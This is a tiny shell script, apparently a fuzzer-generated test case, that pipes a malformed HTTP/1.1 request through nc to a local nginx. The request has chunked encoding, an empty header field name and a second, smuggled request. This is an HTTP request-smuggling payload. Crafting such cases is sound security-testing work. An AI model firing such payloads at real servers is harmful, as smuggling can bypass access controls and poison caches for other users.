#!/bin/sh
# desync/field-name-empty/smuggled-request via stream.duplicate against nginx
printf 'T / HTTP/1.1\r\nHost:127.0.0.1:49285\r\nTransfer-Encoding:chunked\r\n\r\n0\r\n: \n\r\nPT /eo HTTP/1.1\r\nHost: {h\r\n\r\n' | nc 127.0.0.1 ${PORT:-49285}
